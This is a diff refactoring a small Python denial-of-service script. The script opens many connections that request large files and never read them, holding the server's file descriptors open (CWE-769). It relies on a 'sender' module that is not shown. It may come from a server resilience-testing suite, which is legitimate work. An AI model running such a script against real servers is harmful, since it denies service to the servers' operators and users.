@@ -1,21 +1,16 @@
 #!/usr/bin/env python3
 """Asks for many different large files and takes nothing of them, so that each keeps a file descriptor of the server
-open (CWE-769). `{}` in --path stands for a number."""
+open (CWE-769)."""
 
-import socket
-
-from sender import Attack, arguments, request
+from sender import Attack, arguments, request, stands
 
 
 class OpenFiles(Attack):
     def begin(self, sock):
-        sock.sendall(request(self.options.path.format(self.opened % 1000)))
+        sock.sendall(request(self.path()))
 
     def step(self, sock):
-        error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
-        if error:
-            raise OSError(error, "ended")
-        return True
+        return stands(sock)
 
 
 OpenFiles(arguments(__doc__, connections=80, path="/{}.bin"), receive_buffer=4096).run()
